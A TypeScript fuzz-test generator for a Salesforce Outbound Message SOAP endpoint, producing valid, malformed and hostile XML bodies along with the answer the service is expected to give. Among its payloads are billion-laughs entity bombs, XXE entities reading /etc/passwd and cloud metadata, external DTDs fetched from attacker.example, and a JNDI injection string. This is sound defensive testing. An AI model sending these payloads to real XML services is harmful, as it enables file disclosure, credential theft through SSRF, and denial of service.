import fc from 'fast-check';
import { hostileString, hugeString, mutated } from './arbitraries';
import { SF_ORG_ID } from './closer-under-fuzz';

/**
 * Bodies for a Salesforce Outbound Message source: valid messages built from a template of the
 * outbound messaging WSDL (docs/crm/salesforce.md) with fuzzed values, 1–100 notifications and
 * the variations a real sender or a proxy may bring (prefixes, whitespace, comments, CDATA,
 * character references, nil fields); the same with one structural fault; byte-level mutations;
 * and hostile XML (DTDs and entities, deep nesting, huge text, many attributes and elements,
 * invalid UTF-8, namespace tricks, non-XML). Each body says what closer must answer when it comes
 * with the right token and an XML content type.
 */

const KIB = 1024;

/** True once in `n` times. */
const oneIn = (n: number): fc.Arbitrary<boolean> =>
  fc.integer({ min: 1, max: n }).map((i) => i === 1);

/** What closer must answer for a body (right token, XML content type, sent as is). */
export type SoapOutcome =
  /** A valid message: the acknowledgement. */
  | 'ack'
  /** Valid, but from another organization: a 401 fault. */
  | 'wrong-org'
  /** Not well-formed XML, or a DTD: a 400 fault `INTAKE_MALFORMED_JSON` (details.format: xml). */
  | 'malformed'
  /** Well-formed, but not an Outbound Message: a 400 fault `INTAKE_INVALID_PAYLOAD`. */
  | 'invalid'
  /** Not well-formed or not a message, either way a 400 fault. */
  | 'refused'
  /** Anything closer may answer to a request it cannot know the meaning of (a mutation). */
  | 'any';

export interface SoapBody {
  text: string | Buffer;
  outcome: SoapOutcome;
  /** A few words for reports. */
  label: string;
}

// ---------------------------------------------------------------------------------------------
// The template

const ENVELOPE_NS = 'http://schemas.xmlsoap.org/soap/envelope/';
const OUTBOUND_NS = 'http://soap.sforce.com/2005/09/outbound';
const SOBJECT_NS = 'urn:sobject.enterprise.soap.sforce.com';
const XSI_NS = 'http://www.w3.org/2001/XMLSchema-instance';

/** One field of an sObject: text, nil, or nested fields (an object). */
interface Field {
  name: string;
  value: string | null | Field[];
  /** Text in a CDATA section (when it holds no `]]>`). */
  cdata: boolean;
  /** Extra attributes (never `xsi:nil`, never repeated). */
  attributes: [string, string][];
}

interface Notification {
  id: string;
  type: string;
  fields: Field[];
}

/** The parts of a message a generator varies. */
interface Message {
  /** Prefix of the SOAP envelope elements (`''`: a default namespace). */
  envelopePrefix: string;
  /** Prefix of the outbound namespace (`''`: a default namespace, as Salesforce sends). */
  outboundPrefix: string;
  /** Prefix of the sObject fields (`''`: none, in a default namespace). */
  fieldPrefix: string;
  organizationId: string;
  actionId: string | undefined;
  sessionId: string | null;
  notifications: Notification[];
  /** Newlines and indentation between elements. */
  pretty: boolean;
  declaration: boolean;
  /** A comment holding `<!DOCTYPE` / `<!ENTITY` text between elements (not a DTD). */
  comment: boolean;
}

/** Escapes text for element content and attribute values. */
function escapeXml(text: string): string {
  return text
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;');
}

/** `text` with the characters XML 1.0 does not allow (and lone surrogates) left out. */
function xmlChars(text: string): string {
  return text.replace(
    /[^\t\n\r\x20-\ud7ff\ue000-\ufffd\ud800-\udfff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g,
    '',
  );
}

const q = (prefix: string, name: string): string => (prefix === '' ? name : `${prefix}:${name}`);

function renderField(field: Field, prefix: string, indent: string): string {
  const name = q(prefix, field.name);
  const attributes = field.attributes.map(([n, v]) => ` ${n}="${escapeXml(v)}"`).join('');
  if (field.value === null) {
    return `${indent}<${name}${attributes} xsi:nil="true"/>`;
  }
  if (typeof field.value === 'string') {
    const text =
      field.cdata && !field.value.includes(']]>')
        ? `<![CDATA[${field.value}]]>`
        : escapeXml(field.value);
    return `${indent}<${name}${attributes}>${text}</${name}>`;
  }
  const inner = field.value.map((child) => renderField(child, prefix, indent)).join('');
  return `${indent}<${name}${attributes}>${inner}</${name}>`;
}

/** The message as Salesforce would POST it. */
export function renderMessage(m: Message): string {
  const nl = m.pretty ? '\n' : '';
  const e = (name: string): string => q(m.envelopePrefix, name);
  const o = (name: string): string => q(m.outboundPrefix, name);
  const envelopeNs =
    m.envelopePrefix === ''
      ? `xmlns="${ENVELOPE_NS}"`
      : `xmlns:${m.envelopePrefix}="${ENVELOPE_NS}"`;
  const outboundNs =
    m.outboundPrefix === ''
      ? `xmlns="${OUTBOUND_NS}"`
      : `xmlns:${m.outboundPrefix}="${OUTBOUND_NS}"`;
  // `sf` is declared on every sObject (its `xsi:type` names it); unprefixed fields need a default.
  const sobjectNs = m.fieldPrefix === '' ? ` xmlns="${SOBJECT_NS}"` : '';
  const notifications = m.notifications
    .map(
      (n) =>
        `${nl}<${o('Notification')}><${o('Id')}>${n.id}</${o('Id')}>${nl}` +
        `<${o('sObject')} xsi:type="sf:${n.type}" xmlns:sf="${SOBJECT_NS}"${sobjectNs}>` +
        n.fields.map((f) => renderField(f, m.fieldPrefix, nl)).join('') +
        `${nl}</${o('sObject')}></${o('Notification')}>`,
    )
    .join('');
  const session =
    m.sessionId === null
      ? `<${o('SessionId')} xsi:nil="true"/>`
      : `<${o('SessionId')}>${escapeXml(m.sessionId)}</${o('SessionId')}>`;
  return (
    (m.declaration ? `<?xml version="1.0" encoding="UTF-8"?>${nl}` : '') +
    `<${e('Envelope')} ${envelopeNs} xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="${XSI_NS}">${nl}` +
    (m.comment ? `<!-- <!DOCTYPE x [<!ENTITY y "z">]> &undefined; -->${nl}` : '') +
    `<${e('Body')}>${nl}<${o('notifications')} ${outboundNs}>${nl}` +
    `<${o('OrganizationId')}>${m.organizationId}</${o('OrganizationId')}>${nl}` +
    (m.actionId === undefined ? '' : `<${o('ActionId')}>${m.actionId}</${o('ActionId')}>${nl}`) +
    `${session}${nl}` +
    `<${o('EnterpriseUrl')}>https://example.my.salesforce.com/services/Soap/c/59.0/${m.organizationId.slice(0, 15)}</${o('EnterpriseUrl')}>${nl}` +
    `<${o('PartnerUrl')}>https://example.my.salesforce.com/services/Soap/u/59.0/${m.organizationId.slice(0, 15)}</${o('PartnerUrl')}>` +
    `${notifications}${nl}</${o('notifications')}>${nl}</${e('Body')}>${nl}</${e('Envelope')}>${nl}`
  );
}

// ---------------------------------------------------------------------------------------------
// Fuzzed values

const CONVERSATIONS = ['c0nv-0000-4000-8000-000000000001', '7f3c1d2e-0000-4000-8000-00000000beef'];

/** A Salesforce id: 15 or 18 alphanumerics. */
const salesforceId = fc.oneof(
  fc.stringMatching(/^[A-Za-z0-9]{18}$/),
  fc.stringMatching(/^[A-Za-z0-9]{15}$/),
);

/** An element name: API names, prototype names, names that collide with closer's own keys. */
const fieldName = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.constantFrom(
      'Id',
      'Status',
      'Subject',
      'Genesys_Conversation_Id__c',
      'CaseNumber',
      'Description',
    ),
  },
  { weight: 4, arbitrary: fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_.-]{0,30}$/) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      'hasOwnProperty',
      'valueOf',
      'attributes',
      'Notification',
      'sObject',
      'Envelope',
      'xml-stylesheet',
      '_',
      'a.b',
      'É',
      'ß_日本',
    ),
  },
);

/** Text of a field, with only XML characters in it (so the message stays valid). */
const fieldText = fc.oneof(
  {
    weight: 5,
    arbitrary: fc.constantFrom('Closed', 'New', 'Escalated', '', ' ', ...CONVERSATIONS),
  },
  { weight: 4, arbitrary: fc.string({ maxLength: 40 }).map(xmlChars) },
  { weight: 3, arbitrary: hostileString.map((s) => xmlChars(s.slice(0, 2_000))) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '<![CDATA[x]]>',
      ']]>',
      '&amp;',
      '&#0;',
      '&lt;!DOCTYPE',
      '<!ENTITY x SYSTEM "file:///etc/passwd">',
      '"\'',
      '\r\n',
      '\t',
      '💥',
      '\u2028',
      '\ufeff',
      '%00',
      '${jndi:ldap://x}',
    ),
  },
);

/** A field: text (maybe CDATA), nil, or a small object; sometimes with extra attributes. */
const field: fc.Arbitrary<Field> = fc.letrec<{ field: Field }>((tie) => ({
  field: fc.record({
    name: fieldName,
    value: fc.oneof(
      { maxDepth: 3, depthIdentifier: 'soap-field' },
      { weight: 8, arbitrary: fieldText },
      { weight: 1, arbitrary: fc.constant(null) },
      { weight: 1, arbitrary: fc.array(tie('field'), { minLength: 1, maxLength: 3 }) },
    ),
    cdata: fc.boolean(),
    attributes: fc.uniqueArray(
      fc.tuple(
        fc.constantFrom(
          'a',
          'b:c',
          'xsi:type',
          'xmlns:p',
          'sf:nil',
          'nilx',
          '__proto__',
          'constructor',
        ),
        fc.string({ maxLength: 12 }).map(xmlChars),
      ),
      { maxLength: 2, selector: ([name]) => name },
    ),
  }),
})).field;

const notification = (fields: fc.Arbitrary<Field[]>): fc.Arbitrary<Notification> =>
  fc.record({
    id: salesforceId,
    type: fc.oneof(
      { weight: 6, arbitrary: fc.constant('Case') },
      {
        weight: 2,
        arbitrary: fc.constantFrom(
          'Contact',
          'Account',
          'Custom_Object__c',
          'constructor',
          'toString',
        ),
      },
    ),
    fields,
  });

/** A Case that a rule may match (Closed, with a conversation id) or not. */
const caseFields: fc.Arbitrary<Field[]> = fc
  .record({
    status: fc.constantFrom('Closed', 'New', 'New', 'Escalated'),
    conversation: fc.constantFrom(...CONVERSATIONS),
    extra: fc.array(field, { maxLength: 4 }),
  })
  .map(({ status, conversation, extra }) => [
    { name: 'Status', value: status, cdata: false, attributes: [] },
    { name: 'Genesys_Conversation_Id__c', value: conversation, cdata: false, attributes: [] },
    ...extra,
  ]);

/** 1–100 notifications, mostly a few (each is stored and goes through the rules). */
const notificationCount = fc.oneof(
  { weight: 36, arbitrary: fc.integer({ min: 1, max: 2 }) },
  { weight: 3, arbitrary: fc.integer({ min: 4, max: 20 }) },
  { weight: 1, arbitrary: fc.integer({ min: 90, max: 100 }) },
);

/** The same organization written as Salesforce may: 18 characters, or the first 15. */
const rightOrganization = fc.constantFrom(SF_ORG_ID, SF_ORG_ID.slice(0, 15), ` ${SF_ORG_ID}\n`);

/** Another organization, or the same id with one character changed (ids are case-sensitive). */
const otherOrganization = fc.constantFrom(
  '00D000000000001AAA',
  '00D5g000004XyZb',
  `${SF_ORG_ID.slice(0, 14)}A`,
  SF_ORG_ID.toLowerCase(),
  SF_ORG_ID.toUpperCase(),
  '000000000000000',
);

/** A valid message (the organization aside); `fields` are the sObject's fields. */
function message(
  organization: fc.Arbitrary<string>,
  fields: fc.Arbitrary<Field[]> = fc.oneof(caseFields, fc.array(field, { maxLength: 6 })),
  count: fc.Arbitrary<number> = notificationCount,
): fc.Arbitrary<Message> {
  return fc.record({
    envelopePrefix: fc.constantFrom('soapenv', 'soapenv', 'soap', 'SOAP-ENV', 's', ''),
    outboundPrefix: fc.constantFrom('', '', 'out', 'ns1'),
    fieldPrefix: fc.constantFrom('sf', 'sf', 'sf', ''),
    organizationId: organization,
    actionId: fc.option(salesforceId, { nil: undefined, freq: 8 }),
    sessionId: fc.oneof(
      fc.constant(''),
      fc.constant(null),
      fc.constant('00D5g000004XyZa!AQ0AQ.fake-session-id'),
    ),
    notifications: count.chain((n) =>
      fc.array(notification(fields), { minLength: n, maxLength: n }),
    ),
    pretty: fc.boolean(),
    declaration: fc.boolean(),
    comment: oneIn(6),
  });
}

// ---------------------------------------------------------------------------------------------
// Structural faults and hostile XML

/** One structural fault in a valid message, with the answer it must get. */
const STRUCTURAL_FAULTS: readonly {
  label: string;
  apply: (xml: string) => string;
  outcome: SoapOutcome;
}[] = [
  {
    label: 'no Body',
    apply: (x) => x.replace(/<(\/?)([\w-]+:)?Body>/g, '<$1$2Bodi>'),
    outcome: 'invalid',
  },
  {
    label: 'no notifications',
    apply: (x) => x.replace(/<(\/?)([\w-]+:)?notifications\b/g, '<$1$2notification'),
    outcome: 'invalid',
  },
  {
    label: 'no OrganizationId',
    apply: (x) => x.replace(/<([\w-]+:)?OrganizationId>[^<]*<\/([\w-]+:)?OrganizationId>/, ''),
    outcome: 'invalid',
  },
  {
    label: 'two OrganizationIds',
    apply: (x) =>
      x.replace(/(<([\w-]+:)?OrganizationId>[^<]*<\/([\w-]+:)?OrganizationId>)/, '$1$1'),
    outcome: 'invalid',
  },
  {
    label: 'OrganizationId not an id',
    apply: (x) =>
      x.replace(
        /(<(?:[\w-]+:)?OrganizationId>)[^<]*/,
        (_, open: string) => `${open}00D5g000004XyZaEA`,
      ),
    outcome: 'invalid',
  },
  {
    label: 'no Notification',
    apply: (x) => x.replace(/<([\w-]+:)?Notification>[\s\S]*<\/([\w-]+:)?Notification>/, ''),
    outcome: 'invalid',
  },
  {
    label: 'Notification without Id',
    apply: (x) => x.replace(/<([\w-]+:)?Id>[A-Za-z0-9]+<\/([\w-]+:)?Id>/, ''),
    outcome: 'invalid',
  },
  {
    label: 'Id not an id',
    apply: (x) => x.replace(/(<([\w-]+:)?Id>)[A-Za-z0-9]+/, '$1not-an-id!'),
    outcome: 'invalid',
  },
  {
    label: 'no sObject type',
    apply: (x) => x.replace(/ xsi:type="sf:[^"]*"/, ''),
    outcome: 'invalid',
  },
  {
    label: 'sObject type not a name',
    apply: (x) => x.replace(/ xsi:type="sf:[^"]*"/, ' xsi:type="sf:1 Case"'),
    outcome: 'invalid',
  },
  {
    label: 'root not an Envelope',
    apply: (x) => x.replace(/<(\/?)([\w-]+:)?Envelope\b/g, '<$1$2Envelop'),
    outcome: 'invalid',
  },
  { label: 'content after the root', apply: (x) => `${x}<x/>`, outcome: 'malformed' },
  { label: 'text after the root', apply: (x) => `${x}junk`, outcome: 'malformed' },
  { label: 'a second root', apply: (x) => `${x}${x}`, outcome: 'malformed' },
  {
    label: 'declaration not first',
    apply: (x) => ` <?xml version="1.0"?>${x.replace(/^<\?xml[^>]*>/, '')}`,
    outcome: 'malformed',
  },
  {
    label: 'unclosed root',
    apply: (x) => x.replace(/<\/([\w-]+:)?Envelope>\s*$/, ''),
    outcome: 'malformed',
  },
  {
    label: 'mismatched close',
    apply: (x) => x.replace(/<\/([\w-]+:)?Body>/, '</Bodyx>'),
    outcome: 'malformed',
  },
  {
    label: 'a bare ampersand',
    apply: (x) => x.replace(/(<([\w-]+:)?PartnerUrl>)/, '$1a & b'),
    outcome: 'malformed',
  },
  {
    label: 'an unknown entity',
    apply: (x) => x.replace(/(<([\w-]+:)?PartnerUrl>)/, '$1&xxe;'),
    outcome: 'malformed',
  },
  {
    label: 'a NUL character reference',
    apply: (x) => x.replace(/(<([\w-]+:)?PartnerUrl>)/, '$1&#0;'),
    outcome: 'malformed',
  },
  {
    label: 'a surrogate character reference',
    apply: (x) => x.replace(/(<([\w-]+:)?PartnerUrl>)/, '$1&#xD800;'),
    outcome: 'malformed',
  },
  {
    label: 'a reference past U+10FFFF',
    apply: (x) => x.replace(/(<([\w-]+:)?PartnerUrl>)/, '$1&#x110000;'),
    outcome: 'malformed',
  },
  {
    label: 'a repeated attribute',
    apply: (x) => x.replace(/ xsi:type="/, ' a="1" a="2" xsi:type="'),
    outcome: 'malformed',
  },
  {
    label: 'an attribute without a value',
    apply: (x) => x.replace(/ xsi:type="/, ' checked xsi:type="'),
    outcome: 'malformed',
  },
  {
    label: 'an unterminated CDATA',
    apply: (x) => x.replace(/(<([\w-]+:)?PartnerUrl>)/, '$1<![CDATA[x'),
    outcome: 'malformed',
  },
  {
    label: 'an unterminated comment',
    apply: (x) => x.replace(/(<([\w-]+:)?PartnerUrl>)/, '$1<!-- x'),
    outcome: 'malformed',
  },
];

/** A valid message with one structural fault. */
const faultyMessage: fc.Arbitrary<SoapBody> = fc
  .record({
    m: message(
      rightOrganization,
      fc.array(field, { maxLength: 3 }),
      fc.integer({ min: 1, max: 3 }),
    ),
    fault: fc.constantFrom(...STRUCTURAL_FAULTS),
  })
  .map(({ m, fault }) => ({
    text: fault.apply(renderMessage(m)),
    outcome: fault.outcome,
    label: fault.label,
  }));

/** Where a DTD goes: before the root, or inside it (both refused: any `<!` but a comment or CDATA). */
function withDtd(dtd: string, xml: string, inside: boolean): string {
  if (!inside) {
    return xml.replace(/^(<\?xml[^>]*>\s*)?/, (declaration) => `${declaration}${dtd}`);
  }
  return xml.replace(/(<([\w-]+:)?PartnerUrl>)/, `${dtd}$1`);
}

/** DTDs: entity expansion bombs, external entities (XXE), parameter entities, declarations. */
const DTDS: readonly string[] = [
  // Billion laughs.
  `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}]>`,
  // Quadratic blowup: one large entity used many times.
  `<!DOCTYPE q [<!ENTITY a "${'a'.repeat(50_000)}">]>`,
  '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
  '<!DOCTYPE foo [<!ENTITY % pe SYSTEM "http://attacker.example/evil.dtd"> %pe;]>',
  '<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">',
  '<!DOCTYPE foo PUBLIC "-//x//y" "file:///dev/random">',
  '<!doctype foo>',
  '<!DOCTYPE foo [<!ELEMENT foo ANY><!ATTLIST foo a CDATA "x">]>',
  '<!ENTITY xxe "x">',
  '<!ELEMENT x ANY>',
  '<![INCLUDE[ x ]]>',
  '<!x>',
  '<!',
];

/** The entity references a DTD would serve (refused with the DTD, or unknown without). */
const ENTITY_USES = ['', '&lol9;', '&a;&a;&a;&a;&a;&a;&a;&a;', '&xxe;', '&undefined;'];

const dtdMessage: fc.Arbitrary<SoapBody> = fc
  .record({
    m: message(rightOrganization, fc.array(field, { maxLength: 2 }), fc.constant(1)),
    dtd: fc.constantFrom(...DTDS),
    use: fc.constantFrom(...ENTITY_USES),
    inside: oneIn(4),
  })
  .map(({ m, dtd, use, inside }) => ({
    text: withDtd(dtd, renderMessage(m).replace(/(<([\w-]+:)?PartnerUrl>)/, `$1${use}`), inside),
    outcome: 'malformed' as const,
    label: `DTD ${dtd.slice(0, 24)}`,
  }));

/** A chain of `depth` nested fields around one text. */
function nested(depth: number): Field {
  let inner: Field = { name: 'Leaf', value: 'v', cdata: false, attributes: [] };
  for (let i = 1; i < depth; i += 1) {
    inner = { name: `L${i}`, value: [inner], cdata: false, attributes: [] };
  }
  return inner;
}

/** Elements above a field of an sObject (Envelope, Body, notifications, Notification, sObject). */
const SOBJECT_DEPTH = 5;
/** The deepest nesting closer reads (`MAX_XML_DEPTH`), restated. */
const MAX_DEPTH = 32;

/** Deep nesting: fields around the limit (inside a message), or far past it (anything). */
const deepXml: fc.Arbitrary<SoapBody> = fc.oneof(
  fc
    .record({
      m: message(rightOrganization, fc.constant([]), fc.constant(1)),
      depth: fc.integer({ min: MAX_DEPTH - SOBJECT_DEPTH - 4, max: MAX_DEPTH - SOBJECT_DEPTH + 4 }),
    })
    .map(({ m, depth }) => {
      const notifications = m.notifications.map((n) => ({ ...n, fields: [nested(depth)] }));
      return {
        text: renderMessage({ ...m, notifications }),
        outcome: SOBJECT_DEPTH + depth <= MAX_DEPTH ? ('ack' as const) : ('malformed' as const),
        label: `fields ${depth} deep`,
      };
    }),
  fc
    .record({
      depth: fc.oneof(fc.integer({ min: 33, max: 200 }), fc.integer({ min: 10_000, max: 50_000 })),
      kind: fc.constantFrom('closed', 'open', 'self-closing leaf', 'in a message'),
    })
    .map(({ depth, kind }) => {
      const open = '<a>'.repeat(depth);
      const text =
        kind === 'closed'
          ? `${open}x${'</a>'.repeat(depth)}`
          : kind === 'open'
            ? open
            : kind === 'self-closing leaf'
              ? `${open}<b/>${'</a>'.repeat(depth)}`
              : renderMessage({
                  ...TINY,
                  notifications: [{ id: '04l5g00000AbCd0AAA', type: 'Case', fields: [] }],
                }).replace('</PartnerUrl>', `</PartnerUrl>${open}${'</a>'.repeat(depth)}`);
      return { text, outcome: 'malformed' as const, label: `${depth} levels, ${kind}` };
    }),
);

/** The smallest valid message (for hostile additions). */
const TINY: Message = {
  envelopePrefix: 'soapenv',
  outboundPrefix: '',
  fieldPrefix: 'sf',
  organizationId: SF_ORG_ID,
  actionId: '04k5g000000XyZaAAK',
  sessionId: '',
  notifications: [],
  pretty: false,
  declaration: true,
  comment: false,
};

/** A message with one field of `value`, rendered raw (already escaped, or CDATA). */
function withRawField(raw: string, count = 1): string {
  return renderMessage({
    ...TINY,
    notifications: Array.from({ length: count }, (_, i) => ({
      id: `04l5g00000AbC${String(i).padStart(5, '0')}`,
      type: 'Case',
      fields: [],
    })),
  }).replace(/(<sObject [^>]*>)/g, `$1${raw}`);
}

/**
 * Big messages: huge text, many attributes, many elements, many references, CDATA. Element-dense
 * bodies stay well below the 1 MiB limit (still far beyond any real Outbound Message): parsing
 * one costs about 50 MB of heap per MiB, and several lanes parse at once, so larger ones only
 * raise the process's heap high-water mark, which the suite's RSS bound would read as growth.
 */
const bigXml: fc.Arbitrary<SoapBody> = fc.oneof(
  hugeString(10 * KIB, 1_000 * KIB).map((text) => {
    const raw = `<sf:Description>${escapeXml(xmlChars(text))}</sf:Description>`;
    return {
      text: withRawField(raw),
      outcome: 'ack' as const,
      label: `text of ${text.length} units`,
    };
  }),
  fc.integer({ min: 1_000, max: 4_000 }).map((n) => ({
    text: withRawField(
      `<sf:Subject ${Array.from({ length: n }, (_, i) => `a${i}="${i}"`).join(' ')}>x</sf:Subject>`,
    ),
    outcome: 'ack' as const,
    label: `${n} attributes`,
  })),
  fc.integer({ min: 1_000, max: 12_000 }).map((n) => ({
    text: withRawField('<sf:F>x</sf:F>'.repeat(n)),
    outcome: 'ack' as const,
    label: `${n} repeated fields`,
  })),
  fc.integer({ min: 500, max: 4_000 }).map((n) => ({
    text: withRawField(Array.from({ length: n }, (_, i) => `<sf:F${i} xsi:nil="true"/>`).join('')),
    outcome: 'ack' as const,
    label: `${n} distinct nil fields`,
  })),
  fc.integer({ min: 1_000, max: 15_000 }).map((n) => ({
    text: withRawField(`<sf:F>${'&amp;&#x1F4A5;&lt;'.repeat(n)}</sf:F>`),
    outcome: 'ack' as const,
    label: `${n * 3} references`,
  })),
  fc.integer({ min: 1_000, max: 200_000 }).map((n) => ({
    text: withRawField(`<sf:F><![CDATA[${']]'.repeat(n)}<!DOCTYPE x>&x;]]></sf:F>`),
    outcome: 'ack' as const,
    label: `CDATA of ${n * 2} units`,
  })),
  fc.integer({ min: 1_000, max: 15_000 }).map((n) => ({
    text: withRawField(`<sf:F>${'<!-- c -->'.repeat(n)}x<?pi x?></sf:F>`),
    outcome: 'ack' as const,
    label: `${n} comments`,
  })),
  fc.integer({ min: 101, max: 400 }).map((n) => ({
    text: withRawField('<sf:Status>Closed</sf:Status>', n),
    outcome: 'invalid' as const,
    label: `${n} notifications`,
  })),
  fc.integer({ min: 2_000, max: 8_000 }).map((n) => ({
    text: `<a ${Array.from({ length: n }, () => 'a="1"').join(' ')}/>`,
    outcome: 'malformed' as const,
    label: `${n} repeated attributes`,
  })),
);

/** Invalid UTF-8 inside a field's text (read as U+FFFD, so still a message) or in a tag name. */
const INVALID_UTF8: readonly number[][] = [
  [0xff],
  [0xc0, 0x80],
  [0xed, 0xa0, 0x80],
  [0xe2, 0x82],
  [0x80],
  [0xf4, 0x90, 0x80, 0x80],
];

const badUtf8: fc.Arbitrary<SoapBody> = fc
  .record({ bytes: fc.constantFrom(...INVALID_UTF8), inName: fc.boolean() })
  .map(({ bytes, inName }) => {
    const parts = withRawField(
      inName ? '<sf:F@@>x</sf:F@@>' : '<sf:Description>a@@b</sf:Description>',
    ).split('@@');
    const bad = Buffer.from(bytes);
    return {
      text: Buffer.concat(
        parts.flatMap((part, i) => (i === 0 ? [Buffer.from(part)] : [bad, Buffer.from(part)])),
      ),
      // Decoded as U+FFFD, an XML character, and a name character too (the same in both tags).
      outcome: 'ack' as const,
      label: `invalid UTF-8 ${bytes.map((b) => b.toString(16)).join(' ')} in ${inName ? 'a name' : 'text'}`,
    };
  });

/** Namespaces are not resolved (local names are matched): odd prefixes and declarations pass. */
const NAMESPACE_TRICKS: readonly { label: string; apply: (xml: string) => string }[] = [
  { label: 'undeclared prefixes', apply: (x) => x.replace(/ xmlns(:[\w-]+)?="[^"]*"/g, '') },
  {
    label: 'envelope in another namespace',
    apply: (x) => x.replace(ENVELOPE_NS, 'urn:evil'),
  },
  {
    label: 'prototype prefixes',
    apply: (x) => x.replace(/<(\/?)([\w-]+:)?Body>/g, '<$1__proto__:Body>'),
  },
  {
    label: 'a redeclared xsi prefix',
    apply: (x) => x.replace(/<([\w-]+:)?sObject /, '<$1sObject xmlns:xsi="urn:other" '),
  },
  {
    label: 'xsi:type by another prefix',
    apply: (x) => x.replace(/ xsi:type="/, ' constructor:type="'),
  },
  {
    label: 'an empty default namespace',
    apply: (x) => x.replace(/<([\w-]+:)?Notification>/g, '<$1Notification xmlns="">'),
  },
  {
    label: 'xmlns attributes everywhere',
    apply: (x) => x.replace(/<([\w-]+:)?Id>/g, '<$1Id xmlns:a="x" xmlns:b="y" xmlns="z">'),
  },
];

const namespaceTrick: fc.Arbitrary<SoapBody> = fc
  .record({
    m: message(
      rightOrganization,
      fc.array(field, { maxLength: 3 }),
      fc.integer({ min: 1, max: 3 }),
    ),
    trick: fc.constantFrom(...NAMESPACE_TRICKS),
  })
  .map(({ m, trick }) => ({
    text: trick.apply(renderMessage(m)),
    outcome: 'ack' as const,
    label: trick.label,
  }));

/** Bodies that are not XML at all, or XML that is no message. */
const notXml: fc.Arbitrary<SoapBody> = fc.oneof(
  fc
    .constantFrom(
      '',
      ' ',
      '\n\n',
      '{"OrganizationId":"00D5g000004XyZaEAK"}',
      '[]',
      'null',
      'Closed',
      '<',
      '<>',
      '</a>',
      '<a',
      '<?xml version="1.0"?>',
      '<!-- only a comment -->',
      '\u0000',
      '\ufeff',
      'a=b&c=d',
      '--boundary\r\nContent-Type: text/xml\r\n\r\n<a/>',
    )
    .map((text) => ({ text, outcome: 'malformed' as const, label: 'not XML' })),
  fc
    .constantFrom(
      '<a/>',
      '<html><body><p>hello</p></body></html>',
      '<Envelope/>',
      '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"/>',
      '<Envelope><Body/></Envelope>',
      '<Envelope><Body><notifications/></Body></Envelope>',
      '<Envelope><Body><notifications><OrganizationId>00D5g000004XyZaEAK</OrganizationId></notifications></Body></Envelope>',
    )
    .map((text) => ({ text, outcome: 'invalid' as const, label: 'XML, not a message' })),
  hostileString.map((text) => ({ text, outcome: 'refused' as const, label: 'a hostile string' })),
  fc.uint8Array({ minLength: 1, maxLength: 2_000 }).map((bytes) => ({
    text: Buffer.from(bytes),
    outcome: 'refused' as const,
    label: 'random bytes',
  })),
);

/** A valid message as UTF-16 (closer reads UTF-8 only). */
const utf16Message: fc.Arbitrary<SoapBody> = message(
  rightOrganization,
  fc.constant([]),
  fc.constant(1),
).map((m) => ({
  text: Buffer.from(`\ufeff${renderMessage({ ...m, declaration: false })}`, 'utf16le'),
  outcome: 'malformed' as const,
  label: 'UTF-16',
}));

/** Every kind of body, valid messages first. */
export const soapBody: fc.Arbitrary<SoapBody> = fc.oneof(
  {
    weight: 40,
    arbitrary: message(rightOrganization).map((m) => ({
      text: renderMessage(m),
      outcome: 'ack' as const,
      label: `${m.notifications.length} notification(s)`,
    })),
  },
  {
    weight: 4,
    arbitrary: message(
      otherOrganization,
      fc.array(field, { maxLength: 3 }),
      fc.integer({ min: 1, max: 3 }),
    ).map((m) => ({
      text: renderMessage(m),
      outcome: 'wrong-org' as const,
      label: `organization ${m.organizationId}`,
    })),
  },
  { weight: 8, arbitrary: faultyMessage },
  {
    weight: 10,
    arbitrary: message(
      rightOrganization,
      fc.array(field, { maxLength: 3 }),
      fc.integer({ min: 1, max: 3 }),
    )
      .chain((m) => mutated(renderMessage(m)))
      .map((text) => ({ text, outcome: 'any' as const, label: 'mutated' })),
  },
  { weight: 6, arbitrary: dtdMessage },
  { weight: 4, arbitrary: deepXml },
  { weight: 2, arbitrary: bigXml },
  { weight: 2, arbitrary: badUtf8 },
  { weight: 4, arbitrary: namespaceTrick },
  { weight: 5, arbitrary: notXml },
  { weight: 1, arbitrary: utf16Message },
);
